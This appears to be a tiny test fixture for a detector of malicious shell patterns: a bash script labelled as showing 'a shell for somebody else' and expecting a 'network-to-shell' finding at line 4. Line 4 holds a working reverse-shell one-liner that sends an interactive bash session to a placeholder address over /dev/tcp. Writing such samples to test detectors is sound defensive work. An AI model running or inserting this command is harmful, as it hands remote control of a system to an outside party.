#!/bin/bash
# shows: a shell for somebody else
# expect: network-to-shell at line 4
bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
